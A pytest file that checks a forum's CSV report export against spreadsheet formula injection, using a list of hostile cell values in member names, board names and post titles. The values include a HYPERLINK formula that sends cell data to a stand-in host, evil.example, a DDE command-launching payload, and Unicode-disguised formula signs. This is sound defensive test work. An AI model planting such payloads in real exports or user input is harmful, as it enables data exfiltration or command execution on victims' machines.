"""Report CSVs open safely in a spreadsheet: text other members wrote (titles, usernames, board
names) never reads as a formula, and counts stay numbers. Built by a real reports worker and
downloaded as a member would."""

import csv
import io
import unicodedata

import pytest

from forum.models import PostLike
from reports.models import Report, Status
from reports.rendering import render_csv
from reports.services import request_report
from tests.forum.factories import BoardFactory, CommentFactory, PostFactory, UserFactory
from tests.jobs.helpers import wait_for
from tests.reports.conftest import lagos

# Each starts with what a spreadsheet may evaluate: a formula sign, a tab or line break
# before one, blanks or invisible characters before one, a full-width or small form of one.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000@SUM(1)",
    "\u200b=1+1",
    "\ufeff+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
]
# A separator inside a cell must not start a new one in a spreadsheet splitting on it.
SPLITTING = ["Fuel;=1+1", "Fuel\t=1+1", "Fuel,=1+1"]
SIGNS = set("=+-@")
COUNTS = {"Posts", "Comments", "Likes", "Likes given", "Likes received", "Finished", "Failed"}


def looks_like_a_formula(cell: str) -> bool:
    """What the test holds against every text cell, written independently of the code."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    visible = cell.lstrip("".join(chr(c) for c in range(33)) + "\u00a0\u3000\u200b\ufeff")
    return unicodedata.normalize("NFKC", visible[:1]) in SIGNS


@pytest.fixture
def hostile_forum(db):
    """Members named, boards named and posts titled with hostile text, all active on
    10 November 2026 (Lagos)."""
    day = lagos(10, 12)
    members = [UserFactory(username=name, date_joined=day) for name in HOSTILE[:10]]
    boards = [
        BoardFactory(name=HOSTILE[0], slug="hostile-a"),
        BoardFactory(name="-1", slug="hostile-b"),
    ]
    for i, title in enumerate(HOSTILE + SPLITTING):
        post = PostFactory(
            author=members[i % len(members)], board=boards[i % 2], title=title, created_at=day
        )
        CommentFactory(post=post, author=members[(i + 1) % len(members)], created_at=day)
        PostLike.objects.create(user=members[(i + 2) % len(members)], post=post, created_at=day)
    return members, boards


def download_csv(client, report: Report) -> str:
    """The report's CSV as the download view serves it."""
    wait_for(
        lambda: Report.objects.get(pk=report.pk).status in (Status.READY, Status.FAILED),
        timeout=60,
        message=f"report {report.pk}",
    )
    report.refresh_from_db()
    assert report.status == Status.READY, report.error
    client.force_login(report.requester)
    return b"".join(client.get(f"/reports/{report.pk}/report.csv").streaming_content).decode()


def parse(text: str, **options) -> list[list]:
    return list(csv.reader(io.StringIO(text, newline=""), **options))


def test_no_cell_of_any_report_reads_as_a_formula_and_counts_stay_numbers(
    reports_worker, processes, hostile_forum, moderator, client
):
    processes.dispatcher()  # releases a member's second report when the first is done
    members, boards = hostile_forum
    member = members[3]
    dates = {"start_date": "2026-11-10", "end_date": "2026-11-10"}
    reports = {
        "user_activity": request_report(
            requester=moderator, report_type="user_activity", parameters={**dates, "user_id": None}
        ),
        "board_activity (a)": request_report(
            requester=member,
            report_type="board_activity",
            parameters={**dates, "board_id": boards[0].pk},
        ),
        "board_activity (b)": request_report(
            requester=member,
            report_type="board_activity",
            parameters={**dates, "board_id": boards[1].pk},
        ),
        "daily_summary": request_report(
            requester=moderator, report_type="daily_summary", parameters={"date": "2026-11-10"}
        ),
    }

    seen_text: set[str] = set()
    for kind, report in reports.items():
        text = download_csv(client, report)
        for row in parse(text):
            for cell in row:
                assert not looks_like_a_formula(cell), (kind, cell)
                seen_text.add(cell)
        # Quoted cells are text, unquoted ones numbers: counts are numbers, names and days text.
        for header, *body in _tables(parse(text, quoting=csv.QUOTE_NONNUMERIC)):
            for line in body:
                for column, value in zip(header, line, strict=True):
                    assert isinstance(value, float if column in COUNTS else str), (kind, line)

    # Each hostile text is there, shown with the apostrophe a spreadsheet hides.
    for text in [*HOSTILE, "-1"]:
        assert "'" + text in seen_text and text not in seen_text, text
    for text in SPLITTING:  # harmless at the start: left as it is, one cell
        assert text in seen_text


def _tables(rows: list[list]) -> list[list[list]]:
    """The tables after the totals: blank line, title, header, rows."""
    blocks, block = [], None
    for row in rows:
        if row == []:
            block = []
            blocks.append(block)
        elif block is not None:
            block.append(row)
    return [block[1:] for block in blocks]


def test_numbers_are_written_as_numbers_even_negative_and_text_as_quoted_text():
    result = {
        "totals": {"Posts": 3, "Balance": -2},
        "tables": [{"title": "T", "columns": ["Name", "Change"], "rows": [["-2", -2.5]]}],
    }
    lines = render_csv(result).splitlines()
    assert lines[:3] == ['"Total","Count"', '"Posts",3', '"Balance",-2']
    assert lines[-1] == '"\'-2",-2.5'
